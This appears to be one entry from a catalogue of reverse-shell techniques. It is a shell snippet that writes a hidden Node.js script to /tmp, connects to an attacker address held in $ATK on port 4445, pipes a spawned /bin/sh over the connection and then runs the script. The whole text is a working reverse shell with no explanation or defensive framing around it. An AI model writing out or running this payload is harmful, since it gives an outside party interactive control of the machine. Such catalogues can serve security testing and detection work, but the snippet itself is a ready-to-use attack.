# SPDX-License-Identifier: MIT
# technique: node script: net.connect piped into a spawned shell
# level: high
# quick: no
cat >/tmp/.n.js <<X
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const c = net.connect(4445, "$ATK", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
setTimeout(() => process.exit(0), 8000);
X
t0
node /tmp/.n.js
